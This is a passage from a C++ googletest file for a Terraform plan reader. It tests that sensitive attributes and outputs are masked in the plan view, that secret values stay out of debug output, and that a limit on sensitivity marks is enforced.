  ASSERT_THAT(ChangedPaths(same), ElementsAre("cidr masked"));
  const v1::AttributeChange& change = same.resource_changes(0).attribute_changes(0);
  EXPECT_TRUE(change.sensitivity_added());
  EXPECT_EQ(change.before_digest(), change.after_digest());
  EXPECT_EQ(same.masked_change_count(), 0);

  const v1::PlanView create =
      ReadOne({.action = kActionCreate, .after = object, .after_sensitive = {{"cidr"}}});
  EXPECT_FALSE(create.resource_changes(0).attribute_changes(0).sensitivity_added());
}

TEST(MaskingTest, HidesSensitiveOutputs) {
  SmallPlan plan;
  plan.edit = [](plan_file::Plan* message) {
    for (const auto& [name, sensitive] : std::vector<std::pair<std::string, bool>>{
             {"plain", false}, {"marked", true}, {"db_password", false}}) {
      plan_file::OutputChange* const output = message->add_output_changes();
      output->set_name(name);
      output->set_sensitive(sensitive);
      output->mutable_change()->set_action(kActionCreate);
      output->mutable_change()->add_values()->set_msgpack(countersign::testing::Encode("value of " + name));
    }
  };
  const v1::PlanView view = Read(plan.Bytes());
  EXPECT_EQ(view.output_changes(0).attribute_changes(0).after_json(), "\"value of plain\"");
  EXPECT_TRUE(view.output_changes(1).attribute_changes(0).masked());
  EXPECT_TRUE(view.output_changes(2).attribute_changes(0).masked());
  EXPECT_EQ(view.masked_change_count(), 2);
  EXPECT_THAT(view.DebugString(), Not(HasSubstr("value of marked")));
}

TEST(MaskingTest, NothingSensitiveOfARealPlanIsInItsView) {
  for (const std::string_view name : {"create", "mixed", "destroy"}) {
    EXPECT_THAT(Read(countersign::testing::RealPlan(name)).DebugString(),
                Not(HasSubstr(std::string(kSecret))))
        << name;
  }
}

TEST(MaskingTest, RefusesMoreMarksThanTheLimit) {
  SmallPlan plan{
      .objects = {{.action = kActionCreate, .after = {{"a", 1}}, .after_sensitive = {{"a", "b"}, {"c"}}}}};
  Limits limits;
  limits.path_steps = 3;
  EXPECT_THAT(ReadPlan(plan.Bytes(), {limits, "a salt of 23 bytes here"}), IsOk());
  limits.path_steps = 2;
  EXPECT_THAT(ReadPlan(plan.Bytes(), {limits, "a salt of 23 bytes here"}), HasReason(v1::PLAN_UNREADABLE));
}

}  // namespace
}  // namespace countersign::terraform
